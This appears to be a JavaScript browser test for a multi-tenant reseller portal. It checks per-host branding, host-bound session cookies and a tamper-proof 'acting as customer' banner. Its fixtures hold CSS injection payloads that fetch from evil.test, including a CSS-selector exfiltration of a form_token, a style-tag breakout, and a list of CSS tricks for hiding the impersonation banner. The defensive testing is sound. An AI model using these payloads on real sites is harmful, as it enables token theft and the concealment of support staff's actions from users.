// A brand by its host name, over TLS: its name and its colours from the sign-in page on, for the people of its branch and
// nobody else; the nearest brand above where somebody has none; a style sheet that would fetch, which fetches nothing; and
// style sheets that would hide the banner of one who acts as their owner, which change no dot of it.
'use strict'

const assert = require('node:assert/strict')

const { journey } = require('../lib/journey')

const PASSWORD = 'Brand-password-1'
const EVIL = 'https://evil.test'

// One harmless rule, and every way to fetch that a style sheet has.
const sheet = (accent) => `
  @import "${EVIL}/import.css";
  @import url(//evil.test/import.css) layer(a);
  :root { --accent: ${accent}; --stolen: url(${EVIL}/variable) }
  @font-face { font-family: "Stolen"; src: url(${EVIL}/font.woff2) }
  body { font-family: Stolen, sans-serif; background-image: var(--stolen); background: url("${EVIL}/body") }
  h1 { background: image-set("${EVIL}/set.png" 1x); cursor: url(${EVIL}/cursor.cur), auto }
  main::before { content: url(${EVIL}/content.svg) }
  li { list-style-image: \\75rl(${EVIL}/list) }
  input[name="form_token"][value^="a"] { background: url(${EVIL}/token-a) }
  @media all { a { border-image: -webkit-cross-fade(url(${EVIL}/fade), url(x), 50%) 1 } }
  @supports (display: grid) { a { mask: url(${EVIL}/mask#m); filter: url(${EVIL}/filter#f) } }
  </style><img src="${EVIL}/image">`

// What a customer could write so that nobody sees who looks at his pages. Each comes alone: together they might be less.
const HIDING = [
  `html, body, .site, .acting, .acting * { display: none !important; visibility: hidden !important; opacity: 0 !important }`,
  `@layer banner { .acting { display: none !important } }
   @media all { @layer banner { .is-acting > body { opacity: 0 !important } } }`,
  `.acting { position: static !important; height: 0 !important; overflow: hidden !important; clip-path: inset(50%) !important }`,
  `.acting, .acting * { color: transparent !important; background: none !important; font-size: 0 !important;
     -webkit-text-fill-color: transparent !important; text-indent: -100vw !important; filter: opacity(0) !important }`,
  `.acting p::first-line { color: transparent !important; font-size: 0 !important } .acting p::first-letter { font-size: 0 }`,
  `html, body, .site { transform: translateY(-100vh) scale(0) !important; zoom: 0.01 !important; margin-top: -50vh !important;
     mask: linear-gradient(transparent, transparent) !important; content-visibility: hidden !important; contain: strict !important }`,
  `:root, html, body { font-size: 0 !important; line-height: 0 !important; writing-mode: vertical-rl !important;
     height: 0 !important; overflow: hidden !important; scroll-behavior: smooth !important }`,
  `.site, .site * { position: relative !important; z-index: 2147483647 !important; top: -20rem; margin-top: -20rem !important }
   .top { background: white; min-height: 60rem !important; order: -1 !important }`,
  `body::before, html::before, .site::before, .acting::after, .acting p::after { content: "x" !important; display: block !important;
     position: relative !important; z-index: 2147483647 !important; height: 100vh !important; margin-bottom: -100vh !important;
     background: white !important }`,
  `.skip { position: relative !important; top: 0 !important; display: block !important; height: 100vh !important; order: -1 }
   .site { order: -2147483648 !important; float: left; flex: none !important }`,
  `main { position: relative; left: 300vw; top: 300vh; scroll-initial-target: nearest !important }
   .site { width: 400vw !important; height: 400vh !important; overflow: visible !important }`,
  `:root { --accent: #fff; --on-accent: #fff; --text: #fff; --surface: #fff; --accent-soft: #fff; --font: none; --size: 0;
     --space-2: -9rem; --space-5: -9rem; --canvas: transparent }`,
  `* { animation: none; transition: all 99999s !important; mix-blend-mode: difference !important; backdrop-filter: invert(1) !important;
     direction: rtl !important; unicode-bidi: bidi-override !important }`,
]

journey(async ({ site, join, step, told }) => {
  const [meridian, harbor] = told.brands
  const populated = await step('customers with brands of their own', () => populate(site))
  await step('the brand of whose host it is', async () => {
    const stranger = await join({ base: meridian })
    await stranger.visit('/sign-in')
    await looksLike(stranger, 'Meridian', 'rgb(122, 31, 162)')
    await stranger.close()
    const other = await join({ base: harbor })
    await other.visit('/sign-in')
    await looksLike(other, 'Harbor', 'rgb(0, 105, 92)')
    await other.close()
  })
  await step('his people sign in there, and their cookie is bound to the host', async () => {
    const owner = await join({ base: meridian, as: { login: 'meridian', password: PASSWORD } })
    await looksLike(owner, 'Meridian', 'rgb(122, 31, 162)')
    const [cookie] = (await owner.page.context().cookies()).filter(({ name }) => name.endsWith('session'))
    const { name, secure, httpOnly, sameSite, path } = cookie
    assert.deepEqual(
      { name, secure, httpOnly, sameSite, path },
      { name: '__Host-session', secure: true, httpOnly: true, sameSite: 'Lax', path: '/' },
    )
    await owner.close()
  })
  await step('nobody else does', async () => {
    for (const [base, login] of [[meridian, 'beside'], [harbor, 'meridian'], [harbor, 'beside']]) {
      const person = await join({ base })
      await person.trySignIn({ login, password: PASSWORD })
      assert.ok(person.here.startsWith('/sign-in'), `${login} is let in at ${base}`)
      await person.close()
    }
  })
  await step('the nearest brand above', async () => {
    for (const base of [harbor, site.base]) {
      const person = await join({ base, as: { login: 'shop', password: PASSWORD } })
      await looksLike(person, 'Harbor', 'rgb(0, 105, 92)')
      await person.close()
    }
    const beside = await join({ as: { login: 'beside', password: PASSWORD } })
    assert.equal(await beside.page.locator('header .brand').innerText(), 'Tollgate')
  })
  await step('who acts as a customer sees so, whatever that customer wrote', async () => {
    for (const scheme of [{ theme: 'light' }, { theme: 'dark', viewport: { width: 390, height: 700 } }]) {
      const support = await join({ as: site.root, ...scheme })
      const i_customer = populated.beside
      await support.visit(`/customers/${i_customer}`)
      await support.send(`form[action="/customers/${i_customer}/sign-in-as"]`)
      const plain = await bannerOf(support)
      assert.deepEqual(plain.uppermost.map((text) => typeof text), ['string', 'string'])
      for (const css of HIDING) {
        // Of some sheets nothing is left; one that comes with a harmless rule is there.
        await site.voice().call('updateCustomer', { i_customer, css: `${css} h1 { letter-spacing: 1px }` })
        await support.visit('/')
        assert.equal(await support.page.locator('link[data-brand]').count(), 1)
        assert.deepEqual(await bannerOf(support), plain, css)
      }
      await site.voice().call('updateCustomer', { i_customer, css: '' })
      await support.close()
    }
  })
})

// What is seen of the banner: its picture as the page opens, and what lies uppermost at its words and at its button.
async function bannerOf({ page }) {
  const { width } = page.viewportSize()
  const [text, button] = [page.locator('.acting p'), page.locator('.acting button')]
  const boxes = [await text.boundingBox(), await button.boundingBox()]
  const height = Math.max(...boxes.map((box) => box.y + box.height))
  const uppermost = await page.evaluate((boxes) => boxes.map(({ x, y, height }) => {
    return document.elementFromPoint(x + 4, y + height / 2)?.closest('.acting > p, .acting button')?.textContent
  }), boxes)
  const picture = await page.screenshot({ clip: { x: 0, y: 0, width, height }, animations: 'allow' })
  return { boxes, uppermost, picture: picture.toString('base64') }
}

async function populate(site) {
  const root = site.voice()
  const reseller = { customers_mgmt: 7, api_access: 1, api_mgmt: 1, max_depth: 3 }
  const { i_customer: meridian } = await root.call('createCustomer', {
    name: 'Meridian', web_login: 'meridian', web_password: PASSWORD, i_tariff: site.told.i_tariff, ...reseller,
    dns_alias: 'meridian.test', css: sheet('#7a1fa2'),
  })
  const { i_tariff } = await root.call('createTariff', { i_customer: meridian, name: 'Resale', currency: 'USD' })
  const { i_customer: harbor } = await root.call('createCustomer', {
    i_wholesaler: meridian, name: 'Harbor', web_login: 'harbor', web_password: PASSWORD, i_tariff, ...reseller,
    max_depth: 2, dns_alias: 'harbor.test', css: sheet('#00695c'),
  })
  const { i_tariff: retail } = await root.call('createTariff', { i_customer: harbor, name: 'Retail', currency: 'USD' })
  await root.call('createCustomer', {
    i_wholesaler: harbor, name: 'Shop', web_login: 'shop', web_password: PASSWORD, i_tariff: retail,
  })
  const { i_customer: beside } = await root.call('createCustomer', {
    name: 'Beside', web_login: 'beside', web_password: PASSWORD, i_tariff: site.told.i_tariff,
  })
  return { beside }
}

// The name stands on the page and in its title, and the style sheet's harmless rule is at work.
async function looksLike(person, name, accent) {
  const { page } = person
  assert.equal(await page.locator('header .brand').innerText(), name)
  assert.ok((await page.title()).endsWith(`· ${name}`), await page.title())
  const painted = await page.evaluate(() => {
    const probe = document.createElement('span')
    document.body.append(probe)
    probe.className = 'button primary'
    return getComputedStyle(probe).backgroundColor
  })
  assert.equal(painted, accent)
}
